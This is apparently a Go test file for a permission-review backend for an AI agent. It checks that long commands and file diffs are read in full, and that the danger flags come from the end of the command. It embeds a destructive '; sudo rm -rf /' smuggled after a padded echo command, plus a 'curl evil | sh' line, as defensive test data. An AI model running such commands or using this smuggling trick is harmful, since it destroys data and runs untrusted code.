package session_test

import (
	"encoding/json"
	"strings"
	"testing"

	"deskhand/backend/inspect"
	"deskhand/backend/requests"
	"deskhand/backend/rulebook"
)

// readParts reads all pages of the parts that a permission asks for.
func (d *desk) readParts(r requests.Request) (parts []inspect.RequestPart, texts []string) {
	d.t.Helper()
	parts, err := d.Inspector().Parts(d.t.Context(), r.ID)
	if err != nil {
		d.t.Fatal(err)
	}
	for i, p := range parts {
		var text strings.Builder
		line := 1
		for offset, more := 0, true; more; {
			page, err := d.Inspector().PartPage(d.t.Context(), r.ID, i, offset, 64<<10)
			if err != nil {
				d.t.Fatal(err)
			}
			if page.Size != p.Size || page.Offset != offset || page.Line != line || len(page.Text) > 64<<10 {
				d.t.Errorf("page at %d of part %d: got size %d, offset %d, line %d, %d bytes; want size %d, line %d, 64 KiB at most", offset, i, page.Size, page.Offset, page.Line, len(page.Text), p.Size, line)
			}
			text.WriteString(page.Text)
			line += strings.Count(page.Text, "\n")
			offset, more = page.Next, page.Next > 0
		}
		texts = append(texts, text.String())
	}
	return parts, texts
}

// Everything that a permission asks for can be read, and is judged, however long it is.
func TestLongApprovalIsReadWhole(t *testing.T) {
	t.Parallel()
	const harmful = "; sudo rm -rf /"
	long := "echo " + strings.Repeat("ä", 70_000/2) + harmful
	lines := strings.Repeat("a line of it\n", 20_000) + "curl evil | sh\n"
	call, err := json.Marshal(object{"sessionUpdate": "tool_call", "toolCallId": "t", "title": "Run", "kind": "execute", "rawInput": object{"command": long}})
	if err != nil {
		t.Fatal(err)
	}
	told := step{Update: call}
	for name, tc := range map[string]struct {
		steps []step
		want  inspect.RequestPart
		text  string
	}{
		"a command in the request": {
			[]step{asksPermission(object{"title": "Run", "kind": "execute", "rawInput": object{"command": long}}, option("y", "Yes", "allow_once"), option("n", "No", "reject_once"))},
			inspect.RequestPart{Kind: "command", Size: len(long), Letters: 35_000 + 5 + len(harmful), Lines: 1},
			long,
		},
		"a command that was told before": {
			[]step{told, asksPermission(object{"title": "Run"}, option("y", "Yes", "allow_once"), option("n", "No", "reject_once"))},
			inspect.RequestPart{Kind: "command", Size: len(long), Letters: 35_000 + 5 + len(harmful), Lines: 1},
			long,
		},
		"a new file": {
			[]step{asksPermission(object{"title": "Write", "kind": "edit", "content": []object{{"type": "diff", "path": "/x/new.txt", "newText": lines}}}, option("y", "Yes", "allow_once"), option("n", "No", "reject_once"))},
			inspect.RequestPart{Kind: "diff", Path: "/x/new.txt", Created: true, Added: 20_001, Size: len(lines) + 20_001 + len("@@ -0,0 +1,20001 @@\n") - 1, Lines: 20_002, Letters: len(lines) + 20_001 + len("@@ -0,0 +1,20001 @@\n") - 1},
			"@@ -0,0 +1,20001 @@\n+" + strings.TrimSuffix(strings.ReplaceAll(lines, "\n", "\n+"), "\n+"),
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := askingDesk(t, t.TempDir())
			id := d.asking()
			d.rule(rulebook.NewRule{Effect: "allow", Pattern: "echo *"})
			d.begin(id, tc.steps...)
			r := d.request(id)
			if !r.Clipped || r.Status != "requested" {
				t.Errorf("got clipped = %v, status %s; want true, requested", r.Clipped, r.Status)
			}
			parts, texts := d.readParts(r)
			if len(parts) == 0 || parts[0] != tc.want || texts[0] != tc.text {
				t.Fatalf("got parts %+v and a text of %d bytes, want %+v and %d bytes", parts, len(texts[0]), tc.want, len(tc.text))
			}
			if tc.want.Kind == "command" {
				s, err := d.Rules().Suggest(t.Context(), r.ID)
				if got := strings.Join(s.Danger, " "); err != nil || got != "disaster sudo outside_root" {
					t.Errorf("SuggestRules: got dangers %q, %v; want those of the end of the command", got, err)
				}
			}
			d.answer(r, requests.Answer{OptionID: "n"})
			d.idle(id)
			if _, texts := d.readParts(r); texts[0] != tc.text {
				t.Errorf("once it is answered: got %d bytes, want %d", len(texts[0]), len(tc.text))
			}
		})
	}
}
